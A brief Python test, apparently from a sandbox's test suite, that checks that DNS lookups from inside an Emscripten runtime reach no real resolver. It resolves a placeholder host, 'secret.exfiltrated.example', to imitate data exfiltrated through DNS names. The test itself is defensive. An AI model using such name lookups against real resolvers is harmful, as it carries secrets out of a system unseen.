# about = "No name is looked up from inside, where it would carry data out."
# expect = "value:[]"
import socket

found = []
for ask in (
    lambda: socket.gethostbyname("secret.exfiltrated.example"),
    lambda: socket.getaddrinfo("secret.exfiltrated.example", 80),
    lambda: socket.gethostbyaddr("1.1.1.1"),
):
    try:
        # Emscripten makes numbers up for names, or gives them back, and asks nobody.
        found += [answer for answer in [ask()] if "172.29." not in str(answer) and "1.1.1.1" not in str(answer)]
    except (OSError, AttributeError, NotImplementedError):
        pass
found
